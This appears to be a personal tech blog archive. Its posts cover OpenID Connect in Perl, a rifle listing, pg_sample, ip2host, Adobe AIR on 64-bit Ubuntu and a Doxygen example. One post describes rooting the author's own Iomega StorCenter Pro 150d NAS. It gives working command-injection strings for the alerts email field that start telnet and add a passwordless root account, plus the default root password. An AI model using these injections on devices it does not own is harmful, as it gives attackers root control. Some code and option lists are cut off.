Friday, November 29, 2013

OpenID Connect with Perl

Screenshot of Google consent screen
OpenID Connect is a new federated authentication and authorization protocol based on OAuth 2.0. The specification hasn't been finalized yet, but is expected soon.

Perl support is available through the OIDC::Lite module written by Ryo Ito. You can fetch it through CPAN or directly from Ryo's github repository.

The OIDC::Lite::Demo::Client package provides example code for a bunch of providers (as of this writing, there's support for Google, Facebook, Microsoft, Yahoo Japan, and the Japanese social networking site Mixi).

Monday, September 2, 2013

Hacking the Iomega StorCenter Pro 150d NASThe StorCenter Pro 150d is a circa 2007 network-attached storage device (NAS) from Iomega which, frustratingly, does not provide shell access.

I had a problem with AFP (Apple Filing Protocol) not working but managed to get root access to fix it (turned out to be an orphaned pid file which wasn't being removed on boot, and which was preventing the service from starting).

The 150d has a vulnerability in how it handles email addresses within the alerts interface:

Screenshot of the StorCenter Pro 150d's AlertsInterface

You can append any arbitrary command between backticks and it will be dutifully executed as root when you click the "Send Test Mail" button.

It turns out that the StorCenter Pro 150d has a telnet daemon available through inetd. So all we need to do is start that, add a passwordless root account, and we can pop right in.,

Here are the commands that worked for me, but use them at your own risk. Click "Send Test Mail" after entering each one. The null@[] address is arbitrary -- any email address should work there.

UPDATE: See the comment from @George Kopf below.Apparently the default root password is simply the number '1', so you probably don't need to create the additional account. Just start the telnet daemon and try logging in as user 'root' with password '1'.

null@[]`mount -t devpts devpts /dev/pts >> /nethdd/public/hacknas.log 2>&1 &`

null@[]`nohup /bin/inetd /etc/inetd.conf >> /nethdd/public/hacknas.log 2>&1 &`

null@[]`echo 'root2::0:0:administrator:/mnt/0:/bin/sh' >>/etc/passwd`

If you have the /public share of your NAS mounted somewhere, you can watch the hacknas.log file to see any error messages.

Once done, you should be able to telnet in:$ telnet nas
Connected to
Escape character is '^]'.

Linux 2.6.13 (obi) (pts/0)

nas login: root2

BusyBox v1.00 (BUILDTIME) Built-in shell (ash)
Enter 'help' fora list of built-in commands.

-sh: can't access tty; job control turned off
~ #

System info:

# cat /proc/cpuinfo
processor : 0
cpu : e300
revision : 1.1 (pvr 8083 0011)
bogomips : 263.16
chipset : 8347E
Vendor : Freescale Inc.
Machine : mpc8347E sys
core clock : 396 MHz
bus  clock : 264 MHz
PVR : 0x80830011
SVR : 0x80520011
PLL setting : 0x6
Memory : 256 MB

For reference, here is the Iomega 150d manual.

Thanks to Jim Buzbee for identifying the alert vulnerability, and asysadm for his post on modifying the NFS export options.Friday, March 15, 2013

Arsenal SAM7R Instruction Manual

The SAM7R-61 is a high quality Bulgarian-made AK47 rifle chambered in 7.62x39mm. It features a milled receiver and a chrome lined hammer-forged barrel.
Arsenal SAM7R-61
Arsenal SAM7R-61

  • 14mm muzzle threads
  • muzzle break
  • cleaning rod
  • bayonet lug
  • black polymer furniture
  • intermediate length buttstock
  • scope rail
  • one 10-round magazine
  • sling• oil bottle
  • cleaning kit

The SAM7R also comes in a California compliant model (the SAM7R-61C) that has a non-detachable magazine (you need to use their provided tool to release the mag).

Saturday, July 3, 2010

pg_sample: extract a sample dataset from a larger PostgreSQL database

pg_sample is a PostgreSQL utility for making smaller versions of large databases.

download pg_sample 0.01

When you have a relatively large database (tableswith, say, millions or billions of rows), it can be difficult to generate smaller datasets to work with, especially if foreign keys are heavily used.

That's where this script comes in. It will create smaller instances of each table along with any additional rows needed to satisfy foreign key constraints (circular dependencies are supported).

The script's operation closely resembles that of pg_dump. For example, assuming we have a large database named largedb, a smaller version could be produced with:

createdb smalldb
pg_sample largedb | psql smalldb
The smalldb would then contain a subset of largedb's data.

Here are the command-line options (many of which mirror pg_dump):

Output only the data, not the schema (data definitions).

-E *encoding*
Use the specified character set encoding. If not specified, uses the
environment variable PGCLIENTENCODING, if defined; otherwise, uses
the encoding of the database.

-f *file*
Send output to the specified file. If omitted, standard output is

Drop the sample schema if it exists.

Don't delete the sample schema when the script finishes.

The maximum number of rows to initially copy from each table
(defaults to 100). Note that sample tables may end up with
significantly morerows in order to satisfy foreign key constraints.

Randomize the rows initially selected from each table. May
significantly increase the running time of the script.

The schema name to use for the sample database (defaults to

Turn on Perl DBI tracing. See the DBI module documentation for

Output status information to standard error.

The following options control the database connection parameters.

-h *host*
The host name to connect to. Defaults to the PGHOST environment
variable if not specified.

-p *port*
The database port to connect to. Defaults to the PGPORT environment
variable, if set; otherwise, the default port is used.

-U *username*
User name to connect as.

-W *password*
Password to connect with.
See also: pg_sample Github source repository

Sunday, May 9, 2010

ip2host 1.11 ReleaseA new release of ip2host is available. It's a small maintenance release incorporating changes from the Debian package maintainer. The source repository has also been movedto Github.


    Resolves IPs to hostnames in web server logs. This is a faster, drop-in
    replacement for the logresolve utility distributed with the Apache web


ip2host 1.11

  * Silence warnings thanks to Andrew McNaughton and Gunnar Wolf

Saturday, May 8, 2010

Installing Adobe AIR on 64-bit Ubuntu 9.10 Linux

Adobe AIR isn't currently available for 64-bit Linux, but they provide instructions on running the 32-bit version.

I've converted the Ubuntu instructions into this shell script:

From a terminal:

chmod a+rx
sudo ./
This worked for me on Ubuntu 9.10. Please let me know if you try it on other Ubuntu releases or otherwise have trouble with it.

Keywords: Installing Adobe AIR 64-bit Linux Ubuntu

Monday, October 12, 2009

Doxygen Example

Doxygen is a documentation system for use with many languages, including C++, C, Java, and Python.

First, install Doxygen. Using Ubuntu, I installed the package with:
$ apt-get install doxygen
Next. enter the source directory of a project you're working on and run:
$ doxygen -g
That will create a config file named Doxyfile in the current directory. You can customize it, but we'll accept the defaults for now.

Now begin writing your documentation. Here's an example of documenting a simple C++ program:

#include <iostream>

using namespace std;* @brief Example class to demonstrate basic Doxygen usage
* @author MLA
* This is a simple class to demonstrate how Doxygen is used.
* It implements the Euclidean algorithm to compute the greatest* common divisor of two numbers.

class Euclid {

* Compute the greatest common divisor of two integers.
* @parama first integer
* @param b second integer
* @return greatest common divisor of a and b
static const int gcd(const int a, const int b) {
if (0 == b) return a;
return gcd(b, a% b);

Finally, run doxygen, which will process the files and generate documentation in the html subdirectory:
$ doxygen
For more details,see the Doxygen homepage.